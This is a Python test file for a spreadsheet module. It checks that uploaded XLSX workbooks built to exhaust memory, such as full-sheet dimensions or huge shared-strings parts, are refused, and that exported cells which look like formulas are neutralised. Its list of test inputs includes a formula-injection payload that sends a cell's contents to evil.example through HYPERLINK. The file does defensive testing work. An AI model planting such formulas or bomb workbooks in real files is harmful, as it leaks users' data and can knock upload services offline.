"""The one reader of uploaded spreadsheets against workbooks that declare far more than they
hold, and the cell writers of the exports against text that would be a formula."""

import csv
import io
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from grassroots.core import spreadsheets
from grassroots.core.spreadsheets import FileError, count_rows, read_rows, read_xlsx_rows

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "{shared}</Types>"
)
SHARED_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/>{shared}</Relationships>'
)
SHARED_REL = (
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'sharedStrings" Target="sharedStrings.xml"/>'
)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def handmade_xlsx(
    sheet_data: str, *, dimension: str = "A1", shared_strings: bytes | None = None
) -> bytes:
    """An XLSX written part by part, the way a crafted file would be."""
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{MAIN}">'
        f'<dimension ref="{dimension}"/><sheetData>{sheet_data}</sheetData></worksheet>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        has_shared = shared_strings is not None
        archive.writestr(
            "[Content_Types].xml", CONTENT_TYPES.format(shared=SHARED_TYPE if has_shared else "")
        )
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            WORKBOOK_RELS.format(shared=SHARED_REL if has_shared else ""),
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if has_shared:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
    return buffer.getvalue()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def test_a_workbook_declaring_every_cell_of_the_sheet_is_refused_within_a_second():
    content = handmade_xlsx(
        f'<row r="1">{inline("A1", "full_name")}</row>'
        f'<row r="1048576">{inline("XFD1048576", "x")}</row>',
        dimension="A1:XFD1048576",
    )
    assert len(content) < 5_000
    started = time.monotonic()
    with pytest.raises(FileError) as refused:
        list(read_rows(io.BytesIO(content), "bomb.xlsx"))
    assert time.monotonic() - started < 5
    assert "Row 1048576 holds data after 1048574 empty rows" in str(refused.value)


def test_the_declared_dimension_does_not_pad_the_rows_of_an_ordinary_file():
    content = handmade_xlsx(
        f'<row r="1">{inline("A1", "code")}{inline("B1", "name")}</row>'
        f'<row r="3">{inline("A3", "X")}</row>',
        dimension="A1:XFD1048576",
    )
    started = time.monotonic()
    rows = list(read_xlsx_rows(io.BytesIO(content)))
    assert time.monotonic() - started < 5
    assert rows == [(1, ["code", "name"]), (2, []), (3, ["X"])]


def test_a_workbook_with_a_huge_shared_strings_part_is_refused_before_it_is_loaded():
    strings = b"<si><t>" + b"A" * 1000 + b"</t></si>"
    shared = (
        (
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<sst xmlns="{MAIN}" count="10000" uniqueCount="10000">'
        ).encode()
        + strings * 10_000
        + b"</sst>"
    )
    content = handmade_xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared_strings=shared)
    assert len(content) < 100_000
    started = time.monotonic()
    with pytest.raises(FileError) as refused:
        list(read_rows(io.BytesIO(content), "strings.xlsx"))
    assert time.monotonic() - started < 5
    assert "“xl/sharedStrings.xml” unpacks" in str(refused.value)
    assert "it is not an ordinary spreadsheet" in str(refused.value)


def test_a_part_read_whole_beyond_its_limit_is_refused_even_when_it_packs_poorly(settings):
    settings.GRASSROOTS_UPLOAD_MAX_PART_BYTES = 100_000
    strings = b"".join(f"<si><t>{n * 7919 % 1000003:x}</t></si>".encode() for n in range(20_000))
    shared = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">'.encode() + strings + b"</sst>"
    )
    content = handmade_xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared_strings=shared)
    with pytest.raises(FileError) as refused:
        list(read_rows(io.BytesIO(content), "strings.xlsx"))
    assert "more than the 97.7\xa0KB allowed" in str(refused.value)


def test_a_workbook_that_unpacks_beyond_the_total_limit_is_refused(settings):
    settings.GRASSROOTS_UPLOAD_MAX_UNPACKED_BYTES = 50_000
    cells = "".join(f'<row r="{n}">{inline(f"A{n}", f"name {n}")}</row>' for n in range(1, 2_000))
    with pytest.raises(FileError) as refused:
        list(read_rows(io.BytesIO(handmade_xlsx(cells)), "big.xlsx"))
    assert "more than the 48.8\xa0KB allowed" in str(refused.value)


@pytest.mark.parametrize("name", ["members.xlsx", "members.csv"])
def test_a_file_over_the_size_cap_is_refused_with_the_cap_in_the_message(settings, name):
    settings.GRASSROOTS_UPLOAD_MAX_BYTES = 10 * 1024
    content = b"x" * (10 * 1024 + 1)
    with pytest.raises(FileError) as refused:
        list(read_rows(io.BytesIO(content), name))
    assert (
        str(refused.value)
        == "The file is larger than 10.0\xa0KB, the most an upload may be: split it."
    )


def test_a_file_read_by_a_command_on_the_server_has_no_size_cap(settings):
    settings.GRASSROOTS_UPLOAD_MAX_BYTES = 10
    rows = list(read_rows(io.BytesIO(b"a,b\n1,2\n"), "m.csv", spreadsheets.Limits.server_files()))
    assert rows == [(1, ["a", "b"]), (2, ["1", "2"])]


def test_reading_stops_after_the_run_of_empty_rows_that_ends_a_sheet(settings):
    settings.GRASSROOTS_UPLOAD_MAX_EMPTY_ROWS = 10
    empty = "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(3, 40))
    content = handmade_xlsx(
        f'<row r="1">{inline("A1", "code")}</row><row r="2">{inline("A2", "X")}</row>{empty}'
    )
    assert list(read_xlsx_rows(io.BytesIO(content))) == [(1, ["code"]), (2, ["X"])]


def test_data_after_more_empty_rows_than_allowed_is_refused_not_dropped(settings):
    settings.GRASSROOTS_UPLOAD_MAX_EMPTY_ROWS = 10
    content = handmade_xlsx(
        f'<row r="1">{inline("A1", "code")}</row><row r="13">{inline("A13", "X")}</row>'
    )
    with pytest.raises(FileError) as refused:
        list(read_xlsx_rows(io.BytesIO(content)))
    assert "Row 13 holds data after 11 empty rows" in str(refused.value)
    content = handmade_xlsx(
        f'<row r="1">{inline("A1", "code")}</row><row r="12">{inline("A12", "X")}</row>'
    )
    assert list(read_xlsx_rows(io.BytesIO(content)))[-1] == (12, ["X"])


def test_a_file_that_is_not_a_zip_archive_is_refused_as_not_a_workbook():
    with pytest.raises(FileError, match="not a readable XLSX workbook"):
        list(read_rows(io.BytesIO(b"not a workbook"), "m.xlsx"))


def test_the_row_count_of_a_job_is_known_without_reading_the_cells():
    book = Workbook()
    for n in range(250):
        book.active.append([f"row {n}", n])
    buffer = io.BytesIO()
    book.save(buffer)
    assert count_rows(buffer, "m.xlsx") == 250 and buffer.tell() == 0
    assert count_rows(io.BytesIO(b"h\n1\n2\n3"), "m.csv") == 4


# --- writing ---------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_text_that_reads_as_a_formula_is_written_to_csv_with_a_leading_quote():
    out = io.StringIO()
    spreadsheets.csv_writer(out).writerow([*DANGEROUS, "Nguyễn Văn An", -5, 2.5, ""])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[:6] == ["'" + text for text in DANGEROUS]
    assert row[6:] == ["Nguyễn Văn An", "-5", "2.5", ""]


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_reads_as_a_formula_is_a_string_cell_in_xlsx_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("S") if write_only else book.active
    spreadsheets.xlsx_append(sheet, [*DANGEROUS, "Nguyễn Văn An", -5, 2.5])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    for cell, text in zip(cells, DANGEROUS, strict=False):
        # (XML reads a carriage return back as a line feed)
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix
    assert [(c.data_type, c.value) for c in cells[6:]] == [
        ("s", "Nguyễn Văn An"),
        ("n", -5),
        ("n", 2.5),
    ]
